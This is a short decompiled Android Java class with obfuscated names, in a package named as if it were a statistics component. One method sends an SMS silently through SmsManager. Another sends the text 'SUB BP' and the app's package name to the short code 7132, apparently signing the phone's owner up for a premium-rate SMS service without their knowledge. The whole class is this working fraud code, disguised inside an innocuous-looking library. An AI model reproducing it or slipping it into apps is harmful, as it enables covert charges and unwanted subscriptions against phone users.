package com.bp.statis.a;

import android.content.Context;
import android.telephony.SmsManager;

public class c {
    private static final String f4a = "7132";

    public static void a(Context context, String str, String str2) {
        SmsManager.getDefault().sendTextMessage(str, null, str2, null, null);
    }

    public static void b(Context context) {
        a(context, f4a, "SUB BP " + context.getPackageName());
    }
}
